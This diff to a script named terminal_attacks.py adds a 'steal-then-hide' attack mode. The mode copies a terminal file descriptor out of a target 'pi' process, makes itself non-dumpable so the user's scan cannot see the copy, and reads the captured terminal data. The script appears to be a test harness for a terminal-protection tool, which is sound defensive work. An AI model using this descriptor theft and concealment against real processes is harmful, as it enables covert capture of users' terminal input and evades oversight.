@@ -15,6 +15,8 @@
   terminal_attacks.py steal-leaderless PI_PID OUT MARKER SECONDS
       The same from a thread whose process's main thread then exits: a zombie
       leader with an unreadable fd table, and a live thread holding the copy.
+  terminal_attacks.py steal-then-hide PI_PID OUT MARKER SECONDS
+      The same, then non-dumpable, so only root can see that it holds the copy.
   terminal_attacks.py hold-hidden TTY OUT MARKER SECONDS
       Opens TTY (before pi makes it exclusive), becomes non-dumpable so the
       user's scan cannot read its descriptors, and holds it (OUT unused).
@@ -163,7 +165,7 @@ def steal(pi, out, marker, seconds, hide=False):
     t.join()
 
 
-def _steal(pi, out, marker, seconds, unshare):
+def _steal(pi, out, marker, seconds, unshare, then_hide=False):
     if unshare and libc.unshare(CLONE_FILES) != 0:
         with open(marker, "w") as f:
             f.write(f"failed unshare {result(False, ctypes.get_errno())}\n")
@@ -173,6 +175,11 @@ def _steal(pi, out, marker, seconds, unshare):
     if fd is None:
         with open(marker, "w") as f:
             f.write(f"failed {result(False, err)}\n")
+        return
+    # Non-dumpable from now on: the user's scan can no longer read its fds.
+    if then_hide and libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) != 0:
+        with open(marker, "w") as f:
+            f.write(f"failed prctl {result(False, ctypes.get_errno())}\n")
         return
     read_into(fd, out, marker, seconds)
 
@@ -198,6 +205,8 @@ if __name__ == "__main__":
     elif sys.argv[1] in ("steal", "steal-in-thread"):
         steal(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]),
               hide=sys.argv[1] == "steal-in-thread")
+    elif sys.argv[1] == "steal-then-hide":
+        _steal(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]), False, True)
     elif sys.argv[1] == "steal-leaderless":
         steal_leaderless(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]))
     elif sys.argv[1] == "hold-hidden":
